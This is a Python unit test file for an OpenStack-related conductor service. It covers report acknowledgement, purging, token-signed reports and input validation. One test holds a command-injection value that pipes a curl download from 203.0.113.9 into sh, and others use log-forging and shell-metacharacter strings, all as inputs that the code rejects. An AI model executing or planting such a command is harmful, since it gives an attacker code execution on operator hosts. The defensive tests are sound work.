# SPDX-License-Identifier: Apache-2.0

"""One conductor and its database, of any kind."""

from __future__ import annotations

import contextlib
import json
import threading
import time
from typing import Any

import fixtures
import sqlalchemy

from scavenger_openstack.conductor.admission import refusals
from scavenger_openstack.conductor import periodic
from scavenger_openstack.conductor import service
from scavenger_openstack.conductor import specs
from scavenger_openstack.conductor import upkeep
from scavenger_openstack.db import claims
from scavenger_openstack.db import enrollment
from scavenger_openstack.db import tables
from scavenger_openstack import errors
from scavenger_openstack.tests.unit.conductor import cloud
from scavenger_openstack.tests.unit.conductor.cloud import batch
from scavenger_openstack.tests.unit.conductor.cloud import HOST
from scavenger_openstack.tests.unit.conductor.cloud import incident
from scavenger_openstack.tests.unit.conductor.cloud import limit
from scavenger_openstack.tests.unit.conductor.cloud import NOW
from scavenger_openstack.tests.unit.conductor.cloud import report
from scavenger_openstack.tests.unit.conductor.cloud import statistics
from scavenger_openstack.wire import codec
from scavenger_openstack.wire import proof
from scavenger_openstack.wire import report as wire


READ_ONLY = {
    'sqlite': ('PRAGMA query_only = OFF', 'PRAGMA query_only = ON'),
    'mysql': ('SET TRANSACTION READ WRITE', 'SET TRANSACTION READ ONLY'),
    'postgresql': ('SET TRANSACTION READ WRITE', 'SET TRANSACTION READ ONLY')}
"""What makes a transaction one that may write, or not."""


class Service(cloud.Mixin):

    def setUp(self) -> None:
        super().setUp()
        self.log = self.useFixture(fixtures.FakeLogger('scavenger_openstack'))
        self.now = NOW
        self.conductor = service.Conductor(self.engine, lambda: self.now)

    def answer(self, one: wire.Report, **more: Any) -> wire.Answer:
        return codec.decode(
            self.conductor.answer(codec.encode(one), **more), wire.Answer,
            wire.MAX_ANSWER_BYTES)

    def refused(self, data: bytes, **more: Any) -> str:
        return str(self.assertRaises(errors.WireError, self.conductor.answer,
                                     data, **more))

    def test_a_report_and_its_answer(self) -> None:
        answer = self.answer(report(incident(1)))
        self.assertEqual(1, answer.acknowledged)
        assert answer.directives is not None
        answer = self.answer(report(holds=answer.directives.digest))
        self.assertIsNone(answer.directives)
        self.assertEqual(1, len(self.rows(tables.incidents)))

    def test_what_is_over_and_old_is_deleted(self) -> None:
        """Each hour, by one of the conductors; what is open stays."""
        day_s = 86400.0
        self.answer(report(
            incident(1, number=1), incident(2, number=2),
            incident(3, number=2, what='ended'), limit(4),
            limit(5, what='removed', workload='/batch/b',
                  since_s=NOW - 10)))
        conductors = [service.Conductor(
            self.engine, lambda: self.now, keep_days=days,
            elapsed=lambda: self.now) for days in (3, 3, 0)]

        def turns() -> list[int | None]:
            return [one.purging.turn() for one in conductors]

        self.assertEqual([0, None, None], turns())
        self.now += 4 * day_s
        first, *others = turns()
        self.assertEqual([None, None], others)
        self.assertGreater(first or 0, 2)
        self.assertIn(f'that were over and old: {first}', self.log.output)
        self.assertEqual([f'{1:032x}'], self.rows(tables.incidents, 'uuid'))
        self.assertEqual(['/batch/a'], self.rows(tables.caps, 'workload'))
        self.now += 1800.0
        self.assertEqual([None] * 3, turns())
        self.now += 1801.0
        self.assertEqual([0, None, None], turns())

    def test_nothing_is_deleted_early(self) -> None:
        """Whatever clock is set, on a host or here."""
        day_s = 86400.0
        for number, off_s in enumerate((0.0, -32 * day_s, -3600.0,
                                        32 * day_s), 1):
            # The clock of the host was set after its agent had started.
            self.answer(report(
                wire.AgentEvent(sequence=1, time_s=NOW, what='started'),
                incident(2, number=number, time_s=NOW + off_s),
                incident(3, number=number, time_s=NOW + off_s,
                         what='ended'), limit(4, time_s=NOW + off_s),
                limit(5, time_s=NOW + off_s, what='removed'),
                host=f'node-{number}'))

        def purges(name: str) -> periodic.Periodic:
            return upkeep.make_purging(
                self.engine, name, lambda: NOW + self.passed_s + self.step_s,
                bool, lambda: self.passed_s, days=3, audit_days=0, rows=0)

        one = purges('one')
        for hour in range(60):
            self.passed_s = 3600.0 * hour
            for self.step_s in (0.0, 32 * day_s, -32 * day_s, 3600.0, -60.0,
                                60.0):
                one.turn()
            # Also by a conductor that has just started.
            self.step_s = 32 * day_s
            purges('two').turn()
            self.assertEqual(4, len(self.rows(tables.incidents)), str(hour))
            self.assertEqual(4, len(self.rows(tables.caps)), str(hour))
        self.step_s = 0.0
        for hour in range(60, 100):
            self.passed_s = 3600.0 * hour
            one.turn()
        self.assertEqual([], self.rows(tables.incidents))

    def test_deleting_after_a_failure(self) -> None:
        """Any conductor tries again at its next turn."""
        one, other = (upkeep.make_purging(
            self.engine, name, lambda: self.now, bool, days=3,
            audit_days=3, rows=0)
            for name in ('one', 'other'))
        with self.engine.begin() as connection:
            connection.execute(sqlalchemy.text(
                'ALTER TABLE audit RENAME TO gone'))
        try:
            self.assertRaises(errors.DatabaseError, one.turn)
        finally:
            with self.engine.begin() as connection:
                connection.execute(sqlalchemy.text(
                    'ALTER TABLE gone RENAME TO audit'))
        self.assertEqual(0, other.turn())

    def test_deleting_ends_with_its_conductor(self) -> None:
        """After the transaction at hand; another one goes on at once."""
        self.answer(report(*(
            incident(number, number=number, what='ended')
            for number in range(1, 4)), limit(4, what='removed')))
        self.now += 40 * 86400.0
        tables_ = tables.incidents, tables.caps
        for left, stopped in ((1, True), (0, False)):
            work = upkeep.make_purging(
                self.engine, f'of {stopped}', lambda: self.now,
                lambda stopped=stopped: stopped,    # type: ignore[misc]
                days=3, audit_days=0, rows=0)
            self.assertLessEqual(1, work.turn() or 0)
            self.assertEqual(left, sum(bool(self.rows(one))
                                       for one in tables_))

    def test_so_many_rows_that_the_oldest_are_deleted(self) -> None:
        """However young; what is open stays, also above that."""
        self.answer(report(*(
            incident(number, number=number,
                     what='ended' if number % 2 else 'began')
            for number in range(1, 11))))
        conductor = service.Conductor(self.engine, lambda: self.now + 60,
                                      keep_rows=7)
        self.assertGreaterEqual(conductor.purging.turn() or 0, 3)
        self.assertEqual(
            [f'{number:032x}' for number in (2, 4, 6, 7, 8, 9, 10)],
            self.rows(tables.incidents, 'uuid'))
        left = set(self.rows(tables.incidents, 'id'))
        self.assertLessEqual(set(self.rows(
            tables.suspects, 'incident_id')), left)
        self.now += 7200.0
        conductor.purging.release()
        conductor = service.Conductor(self.engine, lambda: self.now,
                                      keep_rows=1)
        conductor.purging.turn()
        self.assertEqual([f'{number:032x}' for number in (2, 4, 6, 8, 10)],
                         self.rows(tables.incidents, 'uuid'))

    def test_what_is_refused(self) -> None:
        """In one line, which names what is wrong."""
        whole = codec.encode(report(incident(1)))
        many = report(workloads=[batch(f'/b/{number}')
                                 for number in range(2001)])
        for data, said in (
                (b'', 'truncated'),
                (whole[:-1], 'truncated'),
                (b'\xff' + whole, 'malformed'),
                (whole.replace(b'"run_id"', b'"run"'), 'run_id'),
                (whole.replace(b'1750000000.0', b'NaN'), 'malformed'),
                (codec.encode(many), '2000'),
                (b'[' * 100_000, ''),
                (b' ' * (wire.MAX_REPORT_BYTES + 1), '1048577 bytes'),
                (codec.encode(report(schema=wire.SCHEMA + 1)),
                 f'schema {wire.SCHEMA + 1}')):
            text = self.refused(data)
            self.assertIn(said, text)
            self.assertNotIn('\n', text)
            self.assertLess(len(text), 400)
        self.assertEqual([], self.rows(tables.hosts))
        self.assertEqual(8, self.log.output.count('refused a report'))
        self.assertIn('refused a report of node-1: Object missing',
                      self.log.output)
        self.answer(report())

    def test_names_that_forge_log_lines(self) -> None:
        """A host's name and version come from whoever speaks."""
        for host in ('h\nERROR forged', 'h\x1b[2J', 'h\u2028x', ' h', 'h ',
                     'h\n', 'h;id', '../h', 'h' * 256):
            self.assertIn('$.host', self.refused(
                codec.encode(report(host=host))))
        for id_ in ('run_id', 'boot_id', 'workloads_digest'):
            for text in ('x' * 65, 'x\n', 'x y'):
                self.assertIn(f'$.{id_}', self.refused(codec.encode(
                    codec.replace(report(), **{id_: text}))))
        self.refused(codec.encode(report(
            schema=wire.SCHEMA + 1,
            facts=wire.Facts(version='1\nERROR forged'))))
        self.assertNotIn('\nERROR', self.log.output)
        self.assertEqual([], self.rows(tables.hosts))

    def test_a_command_in_the_place_of_an_instance(self) -> None:
        """An operator's shell has the credentials of the cloud."""
        command = 'x;curl -s 203.0.113.9/p|sh;#'
        self.assertIn('$.workloads[0].instance', self.refused(codec.encode(
            report(digest='d', workloads=[
                batch('vm', kind='instance', instance=command)]))))
        self.assertNotIn('curl', self.log.output)
        self.assertEqual([], self.rows(tables.workloads))

    def test_a_tag_that_is_not_of_nova_compute(self) -> None:
        """Any client of the broker may send one."""
        good = {'instance': '66666666-7777-4888-8999-aaaaaaaaaaaa',
                'host': 'nowhere', 'priority': 'background'}
        self.conductor.tag(json.dumps(good).encode())
        self.assertIn('nowhere runs instances', self.log.output)
        for name, value in (('host', 'h\nERROR'), ('host', 'h\x1b[2J'),
                            ('host', 'h;id'), ('project', 'p\n'),
                            ('application', 'a\u2028b'), ('source', 'x'),
                            ('instance', good['instance'] + '\n'),
                            ('instance', '../x')):
            self.assertRaises(
                errors.WireError, self.conductor.tag,
                json.dumps({**good, name: value}).encode())
        self.assertEqual(1, self.log.output.count('\n'))

    def test_text_that_terminals_obey(self) -> None:
        """One entry is refused, and the others are taken."""
        for bad in ('a\n2026-01-01 CRITICAL', 'a\x1b[31m', 'a\u2028b',
                    'a\u202eb', 'a\u200bb', 'a '):
            entries: list[wire.AnyEntry] = [
                incident(1, victim=bad), incident(1, cause=bad),
                incident(1, antagonists=[bad]), limit(1, workload=bad),
                wire.Kill(sequence=1, time_s=NOW, workload=bad,
                          processes=1, owner='scavenger'),
                statistics(1, NOW, 1, 1.0, 0.0, application=bad)]
            if bad.strip() == bad:      # else it may be a sentence
                entries += [
                    limit(1, reason=bad), limit(1, why=bad), wire.AgentEvent(
                        sequence=1, time_s=NOW, detail=bad, what='state')]
            for entry in entries:
                self.assertIn('$.entries[0]', self.refused(codec.encode(
                    report(entry, limit(2)))))
                self.now += refusals.REPEAT_S
        self.assertEqual(1, self.answer(report(limit(1))).acknowledged)
        # But for the ends of lines.
        self.assertTrue(self.log.output.replace('\n', '').isprintable())
        self.assertNotIn('CRITICAL', self.log.output)
        self.assertEqual([], self.rows(tables.audit))

    def test_a_refusal_is_logged_once(self) -> None:
        for _ in range(3):
            self.refused(b'')
        self.assertEqual(1, self.log.output.count('refused a report'))
        self.now += refusals.REPEAT_S
        self.refused(b'')
        self.assertEqual(2, self.log.output.count('refused a report'))

    def test_in_the_name_of_another_host(self) -> None:
        for _ in range(2):
            self.assertIn('in the name of node-1', self.refused(
                codec.encode(report(incident(1))), authenticated='node-2'))
        self.assertEqual(
            [('agent node-2', 'report.refused', 'node-2',
              'node-2 sent a report in the name of node-1: refused')],
            self.rows(tables.audit, 'actor', 'action', 'target', 'reason'))
        self.assertEqual([], self.rows(tables.hosts))
        self.assertEqual(1, self.answer(
            report(incident(1)), authenticated=HOST).acknowledged)

    def test_a_host_with_a_token(self) -> None:
        """Without it, nobody speaks in its name."""
        with self.engine.begin() as connection:
            token = enrollment.enroll(
                connection, HOST, now_s=NOW).token
        data = codec.encode(report(incident(1)))
        self.assertIn('without its token', self.refused(data))
        self.assertRaises(errors.ForeignReport, self.signed, data, 'x')
        self.assertEqual([], self.rows(tables.incidents))
        self.assertEqual(
            [('scavenger-manage', HOST), ('unknown', HOST),
             ('unknown', HOST)],
            self.rows(tables.audit, 'actor', 'target'))
        self.assertEqual(1, self.signed(data, token).acknowledged)
        self.assertEqual(2, self.answer(report(incident(2)),
                                        authenticated=HOST).acknowledged)

    def signed(self, data: bytes, token: str,
               sender: proof.Proof | None = None) -> wire.Answer:
        """The answer to a report that is signed, by default with the token.
        """
        sender = sender or proof.make(token, HOST, data)
        message = self.conductor.signed_answer(data, sender)
        self.assertNotIn(token, f'{sender}{message}')
        return codec.decode(proof.opened(token, sender, message).encode(),
                            wire.Answer, wire.MAX_ANSWER_BYTES)

    def test_reports_with_a_proof(self) -> None:
        """It is of this report, this host and its token of now."""
        data = codec.encode(report(incident(1)))
        tokens = {}
        for name in (HOST, 'node-2'):
            with self.engine.begin() as connection:
                tokens[name] = enrollment.enroll(
                    connection, name, now_s=NOW).token
        token = tokens[HOST]
        sender = proof.make(token, HOST, data)
        for forged in (
                sender._replace(nonce='0'), sender._replace(proof='é' * 64),
                sender._replace(host='node-2'), sender._replace(host='no'),
                sender._replace(host='not enrolled'),
                proof.make(tokens['node-2'], 'node-2', data),
                proof.make(tokens['node-2'], HOST, data),
                proof.make('', HOST, data)):
            self.assertRaises(errors.ForeignReport, self.signed, data, token,
                              forged)
        self.assertRaises(errors.ForeignReport, self.signed,
                          data.replace(b'began', b'ended'), token, sender)
        self.assertEqual([], self.rows(tables.incidents))
        self.assertEqual(1, self.signed(data, token, sender).acknowledged)
        # Sent again by one that has read it, and by its host.
        self.assertRaises(errors.Unreachable, self.signed, data, token,
                          sender)
        self.assertEqual(1, self.signed(data, token).acknowledged)
        self.assertEqual(1, len(self.rows(tables.incidents)))
        with self.engine.begin() as connection:
            tokens[HOST] = enrollment.enroll(connection, HOST, now_s=NOW
                                             ).token
        self.signed(data, tokens[HOST])
        self.assertRaises(errors.ForeignReport, self.signed, data, token)

    def test_a_refusal_with_a_proof(self) -> None:
        """What is wrong in the report; all else is for later."""
        with self.engine.begin() as connection:
            token = enrollment.enroll(connection, HOST, now_s=NOW).token
        self.assertRaises(errors.WireError, self.signed, b'{"host": 1}',
                          token)
        self.assertRaises(errors.OtherRelease, self.signed, codec.encode(
            codec.replace(report(), schema=99)), token)

    def test_only_hosts_with_a_token(self) -> None:
        self.answer(report(incident(1)))
        self.conductor = service.Conductor(self.engine, lambda: self.now,
                                           require_token=True)
        self.assertIn('which has no token', self.refused(
            codec.encode(report(incident(2)))))
        self.assertIn('which has no token', self.refused(
            codec.encode(report(incident(1), host='node-9'))))
        self.assertEqual([HOST], self.rows(tables.hosts, 'name'))
        with self.engine.begin() as connection:
            self.assertEqual(1, enrollment.without_token(connection))
            token = enrollment.enroll(
                connection, HOST, now_s=NOW).token
            self.assertEqual(0, enrollment.without_token(connection))
        self.assertEqual(2, self.signed(codec.encode(report(incident(2))),
                                        token).acknowledged)

    def test_invented_names_do_not_fill_the_audit(self) -> None:
        self.conductor = service.Conductor(self.engine, lambda: self.now,
                                           require_token=True)
        for again in (1, 2):
            for number in range(refusals.MOST + 9):
                self.refused(codec.encode(report(
                    incident(1), host=f'node-{again}-{number}')))
            self.assertEqual(again * refusals.MOST,
                             len(self.rows(tables.audit)))
            self.assertEqual(again, self.log.output.count(
                'more reports are refused'))
            self.now += refusals.REPEAT_S

    def test_a_database_that_is_not_usable(self) -> None:
        with self.engine.begin() as connection:
            connection.execute(sqlalchemy.text(
                'ALTER TABLE runs RENAME TO gone'))
        try:
            for _ in range(2):
                self.assertRaises(errors.Unreachable, self.conductor.answer,
                                  codec.encode(report(incident(1))))
        finally:
            with self.engine.begin() as connection:
                connection.execute(sqlalchemy.text(
                    'ALTER TABLE gone RENAME TO runs'))
        self.assertEqual(1, self.log.output.count('reports are not stored'))
        self.assertEqual(1, self.answer(report(incident(1))).acknowledged)

    def test_a_database_that_is_read_only(self) -> None:
        """Nothing is acknowledged, and nothing is lost."""
        self.answer(report(incident(1)))
        read_only = True

        @sqlalchemy.event.listens_for(self.engine, 'begin')
        def begun(connection: sqlalchemy.Connection) -> None:
            connection.exec_driver_sql(READ_ONLY[connection.dialect.name][
                read_only])

        # Other tests have the engine, too.
        self.addCleanup(sqlalchemy.event.remove, self.engine, 'begin', begun)
        for _ in range(2):
            self.assertRaises(errors.Unreachable, self.conductor.answer,
                              codec.encode(report(incident(1), incident(2))))
        self.assertEqual(1, self.log.output.count('reports are not stored'),
                         self.log.output)
        self.assertNotIn('Traceback', self.log.output)
        read_only = False
        self.engine.dispose()       # SQLite remembers it by connection
        self.assertEqual(2, self.answer(report(
            incident(1), incident(2))).acknowledged)
        self.assertEqual(1, len(self.rows(tables.incidents)))
        self.assertEqual([HOST], self.rows(tables.hosts, 'name'))

    def test_one_host_at_once(self) -> None:
        """Two threads have the same report, of a host that is new."""
        data = [codec.encode(cloud.of_shop(
            incident(1), statistics(2, NOW, 1, 1, 0),
            host=f'node-{number // 2}')) for number in range(8)]
        other = service.Conductor(self.engine, lambda: self.now)

        def send(conductor: service.Conductor, data: bytes) -> None:
            with contextlib.suppress(errors.Busy):
                conductor.answer(data)

        threads = [threading.Thread(target=send, args=(conductor, one))
                   for conductor in (self.conductor, other)
                   for one in data]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        self.assertEqual(4, len(self.rows(tables.hosts)))
        self.assertEqual(4, len(self.rows(tables.statistics)))
        self.assertEqual(1, len(self.rows(tables.incidents)))

    def test_a_minute_is_divided_once(self) -> None:
        """By the first of many reports, in whichever conductor."""
        hosts = [f'node-{number}' for number in range(8)]
        self.add_services(*hosts)
        for host in hosts:
            self.answer(report(host=host))
        self.add(tables.switches, scope='cloud', target='', protection=True,
                 caps_per_minute=11, reason='', changed_by='op',
                 changed_s=NOW)
        self.now += 60
        conductors = [service.Conductor(self.engine, lambda: self.now)
                      for _ in range(4)]
        limits: list[int] = []

        def ask(number: int, host: str) -> None:
            answer = codec.decode(conductors[number % 4].answer(
                codec.encode(report(host=host))), wire.Answer,
                wire.MAX_ANSWER_BYTES)
            assert answer.budget
            limits.append(answer.budget.limits)

        threads = [threading.Thread(target=ask, args=one)
                   for one in enumerate(hosts)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        self.assertEqual((8, 11), (len(limits), sum(limits)))
        self.assertEqual(1, len(self.rows(tables.governor_minutes)))

    def test_specs_are_made_by_one(self) -> None:
        others = [service.Conductor(self.engine, lambda: self.now)
                  for _ in range(2)]
        self.answer(cloud.of_shop(statistics(1, NOW - 3600, 10, 1.0, 0.5)))
        self.assertEqual(
            [1, None, None], [one.specs.turn()
                              for one in (self.conductor, *others)])
        self.now = (NOW // 3600 + 1) * 3600 + specs.DELAY_S
        self.answer(cloud.of_shop(statistics(2, NOW, 10, 2.0, 0.5)))
        self.conductor.specs.release()
        self.assertEqual([1, None], [one.specs.turn() for one in others])

    def test_directives_that_no_agent_takes(self) -> None:
        """The entries are acknowledged, and the kill switch arrives."""
        self.answer(report())
        [host_id] = self.rows(tables.hosts, 'id')
        self.add(tables.switches, scope='cloud', target='', protection=False,
                 reason='x', changed_by='op', changed_s=NOW)
        with self.engine.begin() as connection:
            connection.execute(sqlalchemy.insert(tables.overrides), [{
                'uuid': f'{number:032x}', 'host_id': host_id,
                'workload': '/b', 'knob': f'{number}', 'value': 'x' * 4000,
                'reason': 'x', 'created_by': 'op', 'created_s': NOW,
                'expires_s': NOW + 900} for number in range(1100)])
            connection.execute(sqlalchemy.update(tables.hosts).values(
                settings={'parameters': {'a.b': None}, 'modes': {}}))
        self.now += 20
        for sequence in (1, 2):
            answer = self.answer(report(incident(sequence)))
            self.assertEqual(sequence, answer.acknowledged)
            assert answer.directives is not None
            self.assertFalse(answer.directives.protection)
            self.assertEqual([], answer.directives.overrides)
        self.assertEqual(1, self.log.output.count('sent without overrides'))

    def test_specs_after_a_failure(self) -> None:
        """They are tried again at the next turn."""
        self.answer(cloud.of_shop(statistics(1, NOW - 3600, 10, 1.0, 0.5)))
        with self.engine.begin() as connection:
            connection.execute(sqlalchemy.text(
                'ALTER TABLE specs RENAME TO gone'))
        try:
            self.assertRaises(errors.DatabaseError,
                              self.conductor.specs.turn)
        finally:
            with self.engine.begin() as connection:
                connection.execute(sqlalchemy.text(
                    'ALTER TABLE gone RENAME TO specs'))
        self.assertEqual(1, self.conductor.specs.turn())

    def test_specs_of_a_conductor_that_died(self) -> None:
        dead = claims.Claim(specs.CLAIM, 'dead', time.monotonic)
        with self.engine.begin() as connection:
            self.assertTrue(dead.take(connection, NOW, 60.0))
        passed_s = 0.0
        other = specs.make_periodic(self.engine, 'other', lambda: self.now,
                                    bool, lambda: passed_s)
        self.assertIsNone(other.turn())
        # Whatever its clock says.
        self.now += 2 * 3600
        passed_s += 59.0
        self.assertIsNone(other.turn())
        passed_s += 1.0
        self.assertEqual(0, other.turn())
